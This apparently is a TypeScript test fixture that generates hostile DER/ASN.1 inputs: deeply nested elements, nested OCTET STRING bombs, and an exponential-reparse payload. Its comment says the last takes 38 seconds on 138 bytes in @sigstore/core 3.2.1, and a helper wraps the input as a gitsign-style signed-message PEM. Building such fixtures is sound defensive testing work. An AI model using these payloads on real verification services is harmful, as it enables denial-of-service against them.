// Hostile DER for tests and benchmarks: shapes that sink a recursive, speculating, re-encoding ASN.1 reader.
import { Buffer } from "node:buffer";

/** A DER length. */
export const len = (n: number): Buffer => {
  if (n < 128) return Buffer.from([n]);
  const b: number[] = [];
  while (n) {
    b.unshift(n & 255);
    n = Math.floor(n / 256);
  }
  return Buffer.from([0x80 | b.length, ...b]);
};
export const tlv = (t: number, v: Buffer): Buffer => Buffer.concat([Buffer.from([t]), len(v.length), v]);
export const oid = (s: string): Buffer => {
  const p = s.split(".").map(Number);
  const out = [p[0]! * 40 + p[1]!];
  for (const x of p.slice(2)) {
    const enc: number[] = [x & 127];
    for (let v = x >> 7; v; v >>= 7) enc.unshift((v & 127) | 128);
    out.push(...enc);
  }
  return tlv(0x06, Buffer.from(out));
};

/** `depth` elements of tag `tag`, each holding the next, around `inner` (built in one pass: headers, then one concat). */
export function nested(tag: number, depth: number, inner: Buffer = Buffer.alloc(0)): Buffer {
  const heads: Buffer[] = [];
  let size = inner.length;
  for (let i = 0; i < depth; i++) {
    const h = Buffer.concat([Buffer.from([tag]), len(size)]);
    heads.push(h);
    size += h.length;
  }
  return Buffer.concat([...heads.reverse(), inner]);
}

/** `depth` OCTET STRINGs, each holding the next, around `filler` bytes of NULLs (05 00 ...) ending in an OCTET STRING. */
export function octetBomb(depth: number, filler: number, salt = 0): Buffer {
  const inner = Buffer.alloc(filler);
  for (let i = 0; i < filler; i += 2) inner[i] = 5;
  inner[filler - 1] = salt & 0x7f;
  inner[filler - 2] = 4;
  return nested(0x04, depth, inner);
}

/**
 * A SEQUENCE of `k` six-byte OCTET STRINGs (04 04 30 82 HH LL), each holding the header of a SEQUENCE that claims the
 * rest of the input, then a NULL. A reader that guesses every OCTET STRING is DER and lets a child run past its parent
 * reads the rest once per guess, and each guess guesses again: 2^k (k = 22, 138 bytes: 38 s in @sigstore/core 3.2.1).
 */
export function expBomb(k: number): Buffer {
  const n = 6 * k + 2;
  const b = Buffer.alloc(n);
  for (let i = 0; i < k; i++) {
    const rest = n - (6 * i + 6);
    b.set([0x04, 0x04, 0x30, 0x82, rest >> 8, rest & 255], 6 * i);
  }
  b.set([0x05, 0x00], 6 * k);
  return tlv(0x30, b);
}

/** A ContentInfo { signedData, [0] SignedData { 1, {}, id-data, [0] certificates: <cert>, {} } } as gitsign's PEM. */
export function cmsPem(cert: Buffer): string {
  const sd = tlv(0x30, Buffer.concat([tlv(0x02, Buffer.from([1])), tlv(0x31, Buffer.alloc(0)), tlv(0x30, oid("1.2.840.113549.1.7.1")), tlv(0xa0, cert), tlv(0x31, Buffer.alloc(0))]));
  const der = tlv(0x30, Buffer.concat([oid("1.2.840.113549.1.7.2"), tlv(0xa0, sd)]));
  return `-----BEGIN SIGNED MESSAGE-----\n${der.toString("base64").replace(/(.{64})/g, "$1\n")}\n-----END SIGNED MESSAGE-----\n`;
}
